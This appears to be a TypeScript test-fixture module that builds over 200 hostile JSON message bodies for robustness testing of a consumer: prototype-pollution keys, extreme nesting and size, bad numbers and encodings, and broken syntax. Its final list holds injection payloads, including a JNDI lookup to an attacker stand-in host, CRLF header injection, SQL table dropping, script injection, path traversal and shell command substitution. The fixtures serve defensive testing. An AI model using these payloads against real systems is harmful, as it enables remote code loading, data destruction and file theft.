/** A body as an attacker, a broken producer or a foreign system may send it. */
export interface HostileBody {
  /** Unique, and says what is wrong with it. */
  readonly name: string;
  readonly body: Uint8Array;
}

const encoder = new TextEncoder();

const fromText = (name: string, text: string): HostileBody => ({ name, body: encoder.encode(text) });
const fromBytes = (name: string, bytes: readonly number[]): HostileBody => ({ name, body: Uint8Array.from(bytes) });

/**
 * More than 200 bodies that have broken consumers elsewhere: prototype names in every spelling, nesting, sizes, numbers, encodings,
 * broken syntax, compressed data and hostile strings. Each must be decoded or become a dead letter; none may do anything else.
 */
export function hostileBodies(): readonly HostileBody[] {
  return [
    ...prototypeBodies(),
    ...deepBodies(),
    ...largeBodies(),
    ...numberBodies(),
    ...encodingBodies(),
    ...compressedBodies(),
    ...brokenBodies(),
    ...stringBodies(),
  ];
}

function prototypeBodies(): HostileBody[] {
  const spellings = {
    plain: '__proto__',
    'with one escape': '\\u005f_proto__',
    'with upper-case escapes': '\\u005F\\u005Fproto\\u005F\\u005F',
    'all in escapes': '__proto__'.replaceAll(/./g, escaped),
  };
  const wrappings: Readonly<Record<string, (inner: string) => string>> = {
    'at the top': (inner) => inner,
    'in an object': (inner) => `{"a":{"b":${inner}}}`,
    'in an array': (inner) => `[1,[${inner}]]`,
    '60 levels down': (inner) => '['.repeat(60) + inner + ']'.repeat(60),
    'behind a duplicate key': (inner) => `{"a":1,"a":${inner}}`,
  };
  const poisons = Object.entries(spellings).flatMap(([spelling, key]) => [
    { what: `__proto__ ${spelling}`, text: `{"${key}":{"polluted":true}}` },
    { what: `__proto__ ${spelling} that is null`, text: `{"${key}":null}` },
  ]);
  const constructors = ['constructor', 'c\\u006fnstructor'].flatMap((outer) =>
    ['prototype', '\\u0070rototype', 'prototyp\\u0065'].map((inner) => ({
      what: `${outer}.${inner}`,
      text: `{"${outer}":{"${inner}":{"polluted":true}}}`,
    })),
  );
  const wrapped = [...poisons, ...constructors].flatMap(({ what, text }) =>
    Object.entries(wrappings).map(([where, wrap]) => fromText(`${what} ${where}`, wrap(text))),
  );
  const harmless = [
    '{"constructor":"a builder"}',
    '{"constructor":{"name":"x"}}',
    '{"prototype":{"polluted":true}}',
    '{"toString":null,"valueOf":1,"hasOwnProperty":false}',
    '{"text":"__proto__"}',
    '["constructor","prototype","__proto__"]',
    '{"__defineGetter__":1,"__lookupSetter__":2}',
  ];
  return [...wrapped, ...harmless.map((text) => fromText(`names that are only text: ${text}`, text))];
}

const escaped = (letter: string): string => `\\u${letter.charCodeAt(0).toString(16).padStart(4, '0')}`;

function deepBodies(): HostileBody[] {
  const depths = [63, 64, 65, 66, 100, 1000, 10_000, 100_000, 500_000];
  const brackets = '['.repeat(100);
  return [
    ...depths.map((depth) => fromText(`${depth} arrays in each other`, '['.repeat(depth) + ']'.repeat(depth))),
    ...depths
      .filter((depth) => depth <= 100_000)
      .map((depth) => fromText(`${depth} objects in each other`, '{"a":'.repeat(depth) + '1' + '}'.repeat(depth))),
    ...depths
      .filter((depth) => depth <= 1000)
      .map((depth) => fromText(`${depth} arrays, never closed`, '['.repeat(depth))),
    fromText('closed before they were opened', ']'.repeat(100) + brackets),
    fromText('brackets inside a string', JSON.stringify({ text: brackets + '{'.repeat(100) })),
    fromText('brackets behind an escaped quote', `["\\"${brackets}\\\\"]`),
    fromText('brackets behind an escaped backslash', `["\\\\",${brackets}${']'.repeat(100)}]`),
    fromText('brackets in a string that never ends', `["${brackets}`),
    fromText('wide and flat', `[${'[],'.repeat(10_000)}[]]`),
  ];
}

function largeBodies(): HostileBody[] {
  const keys = Array.from({ length: 60_000 }, (_, index) => `"k${index}":${index}`);
  return [
    fromText('60,000 keys', `{${keys.join(',')}}`),
    fromText('500,000 elements', `[${'1,'.repeat(499_999)}1]`),
    fromText('a string of 1 MB', JSON.stringify('x'.repeat(1_000_000))),
    fromText('one byte over 1 MiB', JSON.stringify('x'.repeat(1_048_575))),
    fromText('4 MB of blanks', ' '.repeat(4_000_000)),
    fromText('47 KB of small messages in one', '{"a":1}'.repeat(6800)),
    fromText('100,000 escapes', `"${'\\u0041'.repeat(100_000)}"`),
    fromText('the same key 50,000 times', `{${'"a":1,'.repeat(49_999)}"a":2}`),
  ];
}

function numberBodies(): HostileBody[] {
  const legal = ['1e400', '-1e400', '-0', '1e-400', '9007199254740993', '-9007199254740993', '0.1', '1E+2', '5e-324'];
  const illegal = ['01', '+1', '.5', '5.', '0x10', '1_000', 'NaN', 'Infinity', '-Infinity', '1e', '--1', '1n', '٣'];
  return [
    ...legal.map((number) => fromText(`the number ${number}`, `{"amount":${number}}`)),
    ...illegal.map((number) => fromText(`the illegal number ${number}`, `{"amount":${number}}`)),
    fromText('a number of 100,000 digits', '9'.repeat(100_000)),
    fromText('a fraction of 100,000 digits', `0.${'1'.repeat(100_000)}`),
  ];
}

function encodingBodies(): HostileBody[] {
  return [
    fromBytes('no bytes', []),
    fromBytes('a zero byte', [0]),
    fromBytes('a UTF-8 byte order mark', [0xef, 0xbb, 0xbf, 0x7b, 0x7d]),
    fromBytes('UTF-16, little endian, with its mark', [0xff, 0xfe, ...utf16(true)]),
    fromBytes('UTF-16, big endian, with its mark', [0xfe, 0xff, ...utf16(false)]),
    fromBytes('UTF-16 without a mark', utf16(true)),
    fromBytes('an overlong quote', [0xc0, 0xa2, 0x61, 0xc0, 0xa2]),
    fromBytes('an overlong NUL', [0x22, 0xc0, 0x80, 0x22]),
    fromBytes('a lone continuation byte', [0x22, 0x80, 0x22]),
    fromBytes('a cut sequence', [0x22, 0xe2, 0x82, 0x22]),
    fromBytes('a surrogate in UTF-8', [0x22, 0xed, 0xa0, 0x80, 0x22]),
    fromBytes('beyond the last code point', [0x22, 0xf4, 0x90, 0x80, 0x80, 0x22]),
    fromBytes('the byte 0xff', [0x22, 0xff, 0x22]),
    fromBytes('Latin-1', [0x22, 0xe4, 0x22]),
    fromText('an escaped lone surrogate', '"\\ud800"'),
    fromText('escaped surrogates in the wrong order', '"\\udc00\\ud800"'),
    fromText('an escaped NUL', '"\\u0000"'),
    fromText('a raw NUL in a string', '"\u0000"'),
    fromText('a raw newline in a string', '"\n"'),
    fromText('line separators', '"\u2028\u2029"'),
    fromText('a noncharacter', '"\uffff"'),
    fromText('a no-break space between values', '{"a":\u00a01}'),
  ];
}

const utf16 = (littleEndian: boolean): number[] =>
  Array.from(encoder.encode('{"a":1}'), (ascii) => (littleEndian ? [ascii, 0] : [0, ascii])).flat();

/** Only the beginnings: core never decompresses, so they are noise to it, as they should be. */
function compressedBodies(): HostileBody[] {
  return [
    fromBytes('gzip', [0x1f, 0x8b, 0x08, 0, 0, 0, 0, 0, 0, 3, 0xab, 0x56, 0x4a, 0x54, 0xb2, 0x32]),
    fromBytes('zstd', [0x28, 0xb5, 0x2f, 0xfd, 0x04, 0x58, 0x39, 0, 0, 0x7b, 0x7d]),
    fromBytes('brotli', [0xcf, 0xff, 0xff, 0x7f, 0xf8, 0x27, 0x00, 0xe2]),
    fromBytes('zlib', [0x78, 0x9c, 0xab, 0xae, 0x05, 0, 1, 0x75, 0, 0xf9]),
    fromBytes('snappy', [0xff, 0x06, 0, 0, 0x73, 0x4e, 0x61, 0x50, 0x70, 0x59]),
    fromBytes('a zip archive', [0x50, 0x4b, 0x03, 0x04]),
    fromBytes('an Avro container', [0x4f, 0x62, 0x6a, 0x01]),
    fromBytes('a Java object', [0xac, 0xed, 0x00, 0x05]),
    fromBytes('MessagePack', [0x81, 0xa1, 0x61, 0x01]),
    fromBytes('CBOR', [0xa1, 0x61, 0x61, 0x01]),
  ];
}

function brokenBodies(): HostileBody[] {
  const texts = [
    '{',
    '}',
    '[',
    ']',
    '"',
    ',',
    ':',
    '{"a"',
    '{"a":',
    '{"a":1',
    '{"a":1,',
    '{"a":1,}',
    '[1,',
    '[1,]',
    '[,]',
    '{,}',
    '{a:1}',
    "{'a':1}",
    '{"a":undefined}',
    '{"a":tru}',
    'TRUE',
    'nul',
    '// {}',
    '/* */ {}',
    '{} {}',
    '{}\n{}\n',
    '{}x',
    '"\\x41"',
    '"\\u00"',
    '"\\u{41}"',
    '"a" "b"',
    '\t',
    ' ',
    '\ufeff{}',
    ")]}',\n{}",
    '<xml/>',
    '%7B%7D',
    '{"a":1}}',
    '[1}',
  ];
  return texts.map((text) => fromText(`broken: ${JSON.stringify(text)}`, text));
}

function stringBodies(): HostileBody[] {
  const texts = [
    'a\r\nSet-Cookie: x=1',
    '%0d%0aLocation: //evil.example',
    '\u001b[2J\u001b[31mred',
    '\u202eevil\u202c',
    '${jndi:ldap://evil.example/a}',
    '{{7*7}}',
    "'; DROP TABLE orders; --",
    '<script>alert(1)</script>',
    '../../../../etc/passwd',
    '=cmd|calc!A0',
    '$(reboot)',
    'file:///etc/passwd',
    'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!',
    '\u0000',
    'İıſK',
    'Z̷̢̛a̸l̵g̶o̴',
  ];
  return texts.map((text) => fromText(`the text ${JSON.stringify(text)}`, JSON.stringify({ note: text, [text]: 1 })));
}
